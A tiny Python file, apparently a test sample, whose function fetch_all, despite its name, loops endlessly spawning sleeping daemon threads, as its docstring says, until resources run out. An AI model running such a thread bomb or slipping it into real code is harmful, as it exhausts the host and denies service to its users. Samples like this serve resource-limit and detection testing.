"""Starts threads until it cannot."""

import threading
import time
from typing import Any


async def fetch_all(services: Any) -> Any:
    while True:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
